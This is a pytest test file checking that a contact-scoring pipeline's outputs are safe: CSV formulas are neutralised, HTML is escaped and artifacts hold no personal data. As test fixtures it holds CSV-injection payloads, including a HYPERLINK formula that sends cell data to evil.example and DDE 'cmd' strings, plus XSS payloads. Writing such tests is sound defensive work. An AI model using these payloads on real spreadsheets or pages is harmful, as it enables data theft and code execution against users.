"""What leaves the pipeline is safe: spreadsheet formulas neutralised, BOM, escaped HTML, no PII.

candidates.csv is opened in Excel/LibreOffice by marketing ops (OWASP "CSV injection");
report.html in a browser; Prefect artifacts and the MLflow publish run must hold no names.
"""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from advocacy.data_contracts.report import Check, CheckFailure, TableResult, ValidationReport
from advocacy.models.targets import TARGETS
from advocacy.pipelines import lineage, outputs
from advocacy.settings import Settings

AS_OF = date(2026, 11, 23)
BOM = b"\xef\xbb\xbf"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HTML_PAYLOADS = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
]


def _candidates(names, titles, accounts, *, p_advocate=None) -> pd.DataFrame:
    """A candidates frame as `outputs.candidates_table` builds it, with the given text."""
    n = len(names)
    ids = [f"C{i:05d}" for i in range(n)]
    ranked = pd.DataFrame(
        {
            "contact_id": ids,
            "p_advocate": p_advocate or [0.7 - i / 100 for i in range(n)],
            "priority": [0.6 - i / 100 for i in range(n)],
            "reasons": ["gave NPS 10 12 days ago"] * n,
        }
    )
    listed = pd.DataFrame(
        {
            "contact_id": ids, "account_id": [f"A{i:04d}" for i in range(n)],
            "activity_type": ["review"] * n, "selection": ["optimise"] * n,
            "inclusion_probability": [1.0] * n, "p_yes": [0.5] * n, "p_burnout": [0.1] * n,
            "expected_value": [0.3] * n, "rank": range(1, n + 1),
        }
    )  # fmt: skip
    details = pd.DataFrame(
        {
            "contact_id": ids, "full_name": names, "email": [f"p{i}@example.com" for i in range(n)],
            "title": titles, "persona": ["champion"] * n, "account_name": accounts,
            "segment": ["smb"] * n, "industry": ["software"] * n,
        }
    )  # fmt: skip
    return outputs.candidates_table(ranked, listed, details, AS_OF)


def _read_back(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)


# ---------------------------------------------------------------- candidates.csv
@pytest.mark.parametrize("column", ["full_name", "title", "account_name"])
def test_formula_cells_are_prefixed_and_read_back_as_text(tmp_path, column):
    texts = {c: ["Ana Lima"] * len(FORMULAS) for c in ("full_name", "title", "account_name")}
    texts[column] = FORMULAS
    cands = _candidates(texts["full_name"], texts["title"], texts["account_name"])
    path = tmp_path / "candidates.csv"
    outputs.write_candidates_csv(cands, path)

    back = _read_back(path)
    assert back[column].tolist() == ["'" + f for f in FORMULAS]
    assert all(isinstance(v, str) for v in back[column])
    with path.open(encoding="utf-8-sig", newline="") as fh:  # what a spreadsheet tokenises
        rows = list(csv.DictReader(fh))
    assert [r[column] for r in rows] == ["'" + f for f in FORMULAS]
    assert not any(r[column].startswith(outputs.FORMULA_TRIGGERS) for r in rows)
    other = next(c for c in texts if c != column)
    assert back[other].eq("Ana Lima").all()  # ordinary text untouched
    assert cands[column].tolist() == FORMULAS  # the in-memory frame (report, artifacts) is raw


def test_numbers_stay_numbers_and_plain_text_is_untouched(tmp_path):
    cands = _candidates(
        ["Rómulo Ñúñez", "O'Brien", "-5"], ["VP", "", "a=b"], ["Acme", "x+y", "@home"],
        p_advocate=[-0.25, 0.5, -1.0],
    )  # fmt: skip
    path = tmp_path / "candidates.csv"
    outputs.write_candidates_csv(cands, path)
    text = path.read_text(encoding="utf-8-sig")
    back = _read_back(path)

    assert back["p_advocate"].tolist() == [-0.25, 0.5, -1.0]  # negative numbers: not text
    assert pd.api.types.is_float_dtype(back["p_advocate"])
    assert back["rank"].tolist() == [1, 2, 3]
    assert ",-0.25," in text and "'-0.25" not in text
    assert back["as_of"].eq("2026-11-23").all()
    assert back["full_name"].tolist() == ["Rómulo Ñúñez", "O'Brien", "'-5"]  # text "-5" is text
    assert back["title"].tolist() == ["VP", "", "a=b"]
    assert back["account_name"].tolist() == ["Acme", "x+y", "'@home"]


def test_spreadsheet_safe_leaves_nulls_and_non_text_alone():
    frame = pd.DataFrame(
        {"t": ["=1", None, "ok"], "n": [-1, 2, 3], "f": [-0.5, None, 1.0], "b": [True, False, True]}
    )
    out = outputs.spreadsheet_safe(frame)
    assert out["t"].tolist()[0] == "'=1" and out["t"].isna().tolist() == [False, True, False]
    pd.testing.assert_frame_equal(out[["n", "f", "b"]], frame[["n", "f", "b"]])


def test_bom_by_default_and_plain_utf8_with_the_setting(tmp_path):
    cands = _candidates(["Rómulo Sá"], ["CTO"], ["Açaí Ltda"])
    assert Settings().outputs.csv_encoding == "utf-8-sig"
    default, plain = tmp_path / "default.csv", tmp_path / "plain.csv"
    outputs.write_candidates_csv(cands, default, encoding=Settings().outputs.csv_encoding)
    setting = Settings.model_validate({"outputs": {"csv_encoding": "utf-8"}}).outputs.csv_encoding
    outputs.write_candidates_csv(cands, plain, encoding=setting)

    assert default.read_bytes().startswith(BOM + b"rank,contact_id,")
    assert plain.read_bytes().startswith(b"rank,contact_id,")
    assert default.read_bytes()[len(BOM) :] == plain.read_bytes()
    assert "Rómulo Sá".encode() in plain.read_bytes()  # UTF-8, not Latin-1
    for path in (default, plain):
        assert _read_back(path)["full_name"].tolist() == ["Rómulo Sá"]
    with pytest.raises(ValueError):
        Settings.model_validate({"outputs": {"csv_encoding": "latin-1"}})


# ---------------------------------------------------------------- the bundle: CSV + HTML
def _bundle(cands: pd.DataFrame, settings: Settings | None = None) -> outputs.RunBundle:
    scores = pd.DataFrame(
        {
            "contact_id": [*list(cands["contact_id"]), "C99999"],
            "account_id": [*list(cands["account_id"]), "A9999"],
            "as_of": AS_OF, "p_advocate": [0.5] * (len(cands) + 1),
            "p_burnout": [0.2] * (len(cands) + 1), "priority": [0.4] * (len(cands) + 1),
            "eligible": [True] * len(cands) + [False],
            "ineligible_reason": [None] * len(cands) + ["opted_out"],
            "reasons": "gave NPS 10 12 days ago", "model_versions": "advocacy-propensity=1",
        }
    )  # fmt: skip
    models = [
        {
            "target": t.name, "title": t.title, "name": f"advocacy-{t.name}", "version": 1,
            "run_id": "r1", "metrics": {"holdout_model_auc": 0.8}, "rows": [],
        }
        for t in TARGETS
    ]  # fmt: skip
    inputs = [
        {"table": "contacts", "rows": 3, "rows_before_as_of": 3, "latest_before_as_of": None,
         "days_since_latest": None}
    ]  # fmt: skip
    return outputs.RunBundle(
        as_of=AS_OF, scores=scores, candidates=cands, models=models, inputs=inputs,
        contracts={"ok": True, "tables": []}, settings=settings or Settings(),
    )  # fmt: skip


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """One bundle with injection payloads everywhere a person's text goes, written once."""
    n = len(HTML_PAYLOADS)
    cands = _candidates(HTML_PAYLOADS, HTML_PAYLOADS[::-1], ["=cmd()", *HTML_PAYLOADS[1:]])
    cands["email"] = [f"{p}@example.com" for p in HTML_PAYLOADS]
    cands["reasons"] = [f"gave NPS 10; {p}" for p in HTML_PAYLOADS]
    assert len(cands) == n
    folder = tmp_path_factory.mktemp("bundle")
    bundle = _bundle(cands)
    bundle.write(folder)
    return bundle, folder


def test_report_escapes_injection_payloads(written):
    _, folder = written
    html = (folder / "report.html").read_text(encoding="utf-8")
    for payload in HTML_PAYLOADS:
        assert payload not in html
    assert "<script" not in html.lower()
    assert "<img src=x" not in html and "onerror=alert(1)>" not in html
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in html
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in html
    assert "=cmd()" in html and "&#39;=cmd()" not in html  # the report shows the raw text


def test_bundle_writes_the_csv_neutralised_with_bom(written):
    _, folder = written
    raw = (folder / "candidates.csv").read_bytes()
    assert raw.startswith(BOM)
    back = _read_back(folder / "candidates.csv")
    assert back.loc[0, "account_name"] == "'=cmd()"
    manifest = json.loads((folder / "run.json").read_text())
    assert manifest["settings"]["outputs"]["csv_encoding"] == "utf-8-sig"
    assert manifest["outputs"]["candidates.csv"]["bytes"] == len(raw)


def test_bundle_without_bom_when_configured(tmp_path):
    settings = Settings.model_validate({"outputs": {"csv_encoding": "utf-8"}})
    cands = _candidates(["Rómulo"], ["CTO"], ["Acme"])
    bundle = _bundle(cands, settings)
    bundle.write(tmp_path)
    assert (tmp_path / "candidates.csv").read_bytes().startswith(b"rank,")


# ---------------------------------------------------------------- Prefect artifacts / MLflow
def test_candidates_artifact_has_ids_scores_and_iso_date_only():
    cands = _candidates(["Ana Lima", "Bo Li"], ["CTO", "VP"], ["Acme", "Beta"])
    rows = lineage.candidates_artifact(cands, 1)
    assert len(rows) == 1
    assert set(rows[0]) == set(lineage.ARTIFACT_COLUMNS)
    assert rows[0]["as_of"] == "2026-11-23"
    assert rows[0]["contact_id"] == "C00000" and rows[0]["rank"] == 1
    text = json.dumps(rows)
    assert not any(s in text for s in ("Ana Lima", "p0@example.com", "CTO", "Acme"))


def _failing_report() -> ValidationReport:
    failure = CheckFailure(
        "contacts", "email", "valid email", 2, ["jane.doe@example.com", "Jane Doe"]
    )
    tables = [
        TableResult(
            "contacts", Path("contacts.csv"), rows=10, checks=[Check("email", "valid email")],
            failures=[failure],
        ),
        TableResult(
            "accounts", Path("accounts.csv"),
            problem="unreadable: Could not convert string 'Jane Doe' to INT64",
        ),
    ]  # fmt: skip
    return ValidationReport(Path("/data"), tables, as_of=AS_OF)


def test_contract_artifact_shows_rules_and_counts_but_no_examples():
    report = _failing_report()
    assert "jane.doe@example.com" in report.to_text()  # the CLI report keeps its examples
    md = lineage.contracts_markdown(report)
    assert "| contacts | email | valid email | 2 |" in md
    assert "FAIL (unreadable)" in md and "FAILED" in md
    assert "jane.doe@example.com" not in md and "Jane Doe" not in md


def test_publish_summary_drops_examples_and_problem_text():
    report = _failing_report()
    summary = lineage.publish_summary({"contracts": report.to_dict(), "outputs": {}})
    text = json.dumps(summary)
    assert "jane.doe@example.com" not in text and "Jane Doe" not in text
    assert summary["contracts"]["tables"][0]["failures"][0]["failing_rows"] == 2


def test_mlflow_publish_run_holds_no_personal_files(written, mlflow_store):
    from mlflow import MlflowClient

    bundle, folder = written
    run_id = lineage.log_lineage(bundle, folder)
    client = MlflowClient()
    listed = [a.path for a in client.list_artifacts(run_id, "published")]
    assert listed == ["published/run_summary.json"]
    run = client.get_run(run_id)
    assert run.data.metrics["shortlisted"] == len(bundle.candidates)
    assert run.data.metrics["left_alone_opted_out"] == 1
    manifest = json.loads((folder / "run.json").read_text())
    assert run.data.tags["sha256.candidates.csv"] == manifest["outputs"]["candidates.csv"]["sha256"]
    local = Path(client.download_artifacts(run_id, "published/run_summary.json"))
    summary = local.read_text()
    assert manifest["outputs"]["candidates.csv"]["sha256"] in summary
    everything = json.dumps([run.data.tags, run.data.params, summary])
    for person in bundle.candidates[["full_name", "email"]].to_numpy().ravel():
        assert person not in everything


def test_a_retried_lineage_step_logs_one_publish_run(written, mlflow_store):
    from mlflow import MlflowClient

    bundle, folder = written
    first = lineage.log_lineage(bundle, folder)
    again = lineage.log_lineage(bundle, folder)  # what a task retry after success would do
    assert again == first
    experiment = MlflowClient().get_experiment_by_name(bundle.settings.tracking.experiment)
    runs = MlflowClient().search_runs([experiment.experiment_id], "tags.stage = 'publish'")
    assert [r.info.run_id for r in runs] == [first]
    assert runs[0].data.tags[lineage.PUBLISH_KEY_TAG]
